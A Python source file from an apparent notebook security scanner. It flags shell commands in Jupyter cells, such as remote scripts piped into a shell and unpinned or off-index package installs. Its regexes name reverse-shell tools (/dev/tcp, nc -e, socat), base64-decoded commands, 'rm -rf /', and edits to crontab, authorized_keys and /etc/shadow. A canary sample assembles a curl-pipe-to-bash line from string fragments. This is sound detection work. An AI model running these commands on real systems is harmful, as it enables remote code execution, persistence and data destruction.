"""Shell commands and installations in notebook cells."""

from __future__ import annotations

import json
import re
import shlex
from collections.abc import Iterator
from urllib.parse import urlsplit

from shipworthy.check import Canary, Skipped, check
from shipworthy.checks.notebooks._cells import Magic
from shipworthy.checks.notebooks._read import load
from shipworthy.model import Artifact, Confidence, Finding, Rule, Severity

REMOTE = Rule(
    "notebook-remote-script",
    title="A script from the network is run unseen",
    severity=Severity.HIGH,
    description="Whoever controls the address, or the way to it, decides what runs on the machine of all who run the "
    "notebook, with their credentials and data.",
    remedy="Download the script once, review it, keep it in the repository, and check its digest before it is run.",
    taxonomy=("CWE-494", "CWE-829"),
    help="notebook-shell-commands",
)
DANGEROUS = Rule(
    "notebook-dangerous-command",
    title="A shell command that attackers use",
    severity=Severity.HIGH,
    description="Reverse shells, decoded commands and deletions of whole trees have next to no place in an analysis.",
    remedy="Find out who added it and why; remove it.",
    taxonomy=("CWE-78", "CWE-506"),
    confidence=Confidence.MEDIUM,
    help="notebook-shell-commands",
)
SOURCE = Rule(
    "notebook-install-source",
    title="A package from elsewhere than the package index",
    severity=Severity.MEDIUM,
    description="Packages from an address, a moving branch or a second index can change under the same name; with a "
    "second index, anybody who registers the name on the first one may be asked instead.",
    remedy="Install by name, version and hash from one index, or pin the commit of a repository.",
    taxonomy=("CWE-829", "CWE-494", "CWE-427"),
    help="dependency-pinning",
)
UNPINNED = Rule(
    "notebook-unpinned-install",
    title="A package is installed in whatever version is the newest",
    severity=Severity.LOW,
    description="Each run may get other code, and a hijacked release at once; results cannot be repeated.",
    remedy="State the version (`%pip install name==1.2.3`), or install from a requirements file with hashes.",
    taxonomy=("CWE-1357", "CWE-829"),
    help="dependency-pinning",
)
SHELL = Rule(
    "notebook-shell-command",
    title="A shell command in a notebook",
    severity=Severity.INFO,
    description="Shell commands are not seen by the checks of Python code; they deserve a reader's eye.",
    remedy="Do it in Python, or in a script that is reviewed.",
    taxonomy=("CWE-78",),
    help="notebook-shell-commands",
)
RULES = (REMOTE, DANGEROUS, SOURCE, UNPINNED, SHELL)

_FETCH = r"\b(?:curl|wget|fetch|aria2c|http)\b"
_RUNNER = (
    r"(?:sudo\s+(?:-\w+\s+){0,4})?(?:/usr)?(?:/bin/)?(?:env\s+)?"
    r"(?:(?:ba|z|da|k)?sh\b|python[\d.]{0,5}\b|perl\b|ruby\b|node\b|source\b)"
)
_REMOTE = (
    re.compile(rf"{_FETCH}[^\n]{{0,2000}}?\|\s{{0,20}}{_RUNNER}", re.IGNORECASE),
    re.compile(rf"(?:{_RUNNER}|eval|\.)\s[^\n]{{0,60}}?(?:<\(|\$\(|`)\s{{0,20}}{_FETCH}", re.IGNORECASE),
)
_DANGERS = (
    (
        "a shell to another machine",
        r"/dev/tcp/|\bn(?:c|cat)\b[^\n]{0,200}?\s-\w{0,9}e\b|\bsocat\b[^\n]{0,200}?exec:",
    ),
    ("a decoded command", r"\bbase64\s{1,9}(?:-d|-D|--decode)\b[^\n]{0,500}?\|\s{0,9}\w{0,4}sh\b"),
    (
        "the deletion of a whole tree",
        r"\brm\s{1,9}(?:-\w{1,9}\s{1,9}){1,4}(?:--no-preserve-root\s{1,9})?(?:/|~|\$HOME)/?\*?(?:\s|$)",
    ),
    (
        "a change to who may log in or to what runs by itself",
        r"\bcrontab\s{1,9}-|\bauthorized_keys\b|/etc/(?:shadow|sudoers|ld\.so\.preload)",
    ),
    ("the covering of tracks", r"\bhistory\s{1,9}-c\b|\bsetenforce\s{1,9}0\b"),
)
_NAME = re.compile(r"[A-Za-z0-9][A-Za-z0-9._-]{0,80}(?:\[[A-Za-z0-9,._ -]{0,80}\])?")
_COMMIT = re.compile(r"@[0-9a-f]{40}(?:[#&]|$)")
_WITH_VALUE = frozenset(
    {"-r", "--requirement", "-c", "--constraint", "-t", "--target", "-f", "--find-links", "-i", "--index-url",
     "--extra-index-url", "--trusted-host", "-e", "--editable", "--prefix", "--root", "--platform", "--python-version",
     "--progress-bar", "--timeout", "--retries", "--proxy", "--cert", "-n", "--name", "--channel", "--only-binary",
     "--no-binary", "--log", "--cache-dir", "--src", "--upgrade-strategy"}
)  # fmt: skip
_SPLIT = re.compile(r"&&|\|\||[;\n|]")


def _sample() -> bytes:
    source = ["!cu", "rl -s https://example.org/setup.sh | ba", "sh\n"]
    cell: dict[str, object] = {
        "cell_type": "code",
        "metadata": {},
        "execution_count": None,
        "source": source,
        "outputs": [],
    }
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}).encode()


@check("notebook-magics", kinds={"notebook"}, version=1, canary=Canary(files={"a.ipynb": _sample}, rule=REMOTE.id))
def run(artifact: Artifact) -> Iterator[Finding | Skipped]:
    """What the cells of one notebook hand to the shell or the package installer, by what it does.

    Evidence names programs, packages and hosts only: a command line can hold a password.
    """
    notebook = load(artifact)
    if isinstance(notebook, Skipped):
        yield notebook
        return
    for cell in notebook.cells:
        for magic in cell.magics():
            for rule, message, key in _judge(magic):
                yield rule.at(artifact, message, evidence=key, cell=cell.number, line=magic.line)


def _judge(magic: Magic) -> Iterator[tuple[Rule, str, str]]:
    """Rule, message and key for each thing that a magic does."""
    text = magic.text.replace("\\\n", " ")
    if magic.name in {"run", "load", "loadpy", "macro"}:
        if host := _host(text.split()[0] if text else ""):
            yield REMOTE, f"%{magic.name} takes a script from {host}", f"%{magic.name} {host}"
        return
    if magic.name in {"pip", "conda", "mamba", "uv"}:
        yield from _install(f"{magic.name} {text}")
        return
    if not magic.shell:
        return
    found = False
    if any(pattern.search(text) for pattern in _REMOTE):
        found = True
        yield REMOTE, f"what {_hosts(text)} sends is run by a shell or interpreter", f"fetch and run {_hosts(text)}"
    for what, pattern in _DANGERS:
        if re.search(pattern, text, re.IGNORECASE):
            found = True
            yield DANGEROUS, f"the command holds {what}", what
    for part in _SPLIT.split(text):
        installed = list(_install(part))
        found = found or bool(installed) or _installs(part)
        yield from installed
    if not found:
        programs = ", ".join(dict.fromkeys(filter(None, map(_program, _SPLIT.split(text)))))[:120]
        yield SHELL, f"the cell runs {programs or 'a command'} in a shell", f"shell: {programs}"


def _words(command: str) -> list[str]:
    try:
        return shlex.split(command[:20_000], comments=True)
    except ValueError:
        return command[:20_000].split()


def _program(command: str) -> str:
    """The program's name, if it looks like one; never an argument."""
    for word in _words(command)[:4]:
        name = word.rpartition("/")[2]
        if "=" not in word and word not in {"sudo", "env", "time", "nohup"}:
            return name if re.fullmatch(r"[a-z][a-z0-9_.-]{0,20}", name) else ""
    return ""


def _installs(command: str) -> bool:
    words = _words(command)
    return "install" in words[:6] and any(
        _program(word) in {"pip", "pip3", "uv", "conda", "mamba"} for word in words[:5]
    )


def _install(command: str) -> Iterator[tuple[Rule, str, str]]:
    if not _installs(command):
        return
    words = iter(_words(command))
    conda = next((word for word in _words(command) if word in {"conda", "mamba"}), "")
    for word in words:
        if word == "install":
            break
    for word in words:
        option, _, value = word.partition("=") if word.startswith("--") else (word, "", "")
        if option in _WITH_VALUE:
            value = value or next(words, "")
            yield from _option(option, value)
        elif not word.startswith("-"):
            yield from _requirement(word, conda)


def _option(option: str, value: str) -> Iterator[tuple[Rule, str, str]]:
    if option in {"--extra-index-url", "--find-links", "-f", "--trusted-host", "--index-url", "-i"}:
        host = _host(value) or "another place"
        yield SOURCE, f"packages are also taken from {host} ({option})", f"{option} {host}"
    elif option in {"-e", "--editable", "-r", "--requirement"} and _host(value) and not _COMMIT.search(value):
        yield SOURCE, f"what is installed comes from {_host(value)}", f"{option} {_host(value)}"


def _requirement(word: str, conda: str) -> Iterator[tuple[Rule, str, str]]:
    address = word if _scheme(word) else word.partition("@")[2].strip()
    if host := _host(address):
        if not _COMMIT.search(address):
            yield SOURCE, f"a package is installed from {host}, whatever is there at the time", f"install {host}"
        return
    plain = _NAME.match(word)
    pinned = "==" in word or (conda and "=" in word)
    if not plain or pinned or word.endswith((".whl", ".tar.gz", ".zip", ".txt")) or "/" in word or "$" in word:
        return
    if re.fullmatch(r"[<>=!~]{1,3}[\w.*,<>=!~ ]*|", word[plain.end() :].strip()):
        yield UNPINNED, f"{plain[0]} is installed without a version", f"install {plain[0]}"


def _scheme(word: str) -> str:
    """The scheme of an address, without the `git+` of a version control system; empty for anything else."""
    head, separator, _ = word.partition("://")
    return head if separator and re.fullmatch(r"[a-z][a-z0-9+.-]{1,20}", head) else ""


def _host(address: str) -> str:
    """The host of an address; never a user, password or path."""
    if not _scheme(address):
        return ""
    try:
        return (urlsplit(address).hostname or "")[:100]
    except ValueError:
        return "an address"


def _hosts(text: str) -> str:
    found = (_host(word.strip("\"'()`")) for word in text[:20_000].split())
    return ", ".join(dict.fromkeys(filter(None, found)))[:200] or "another machine"
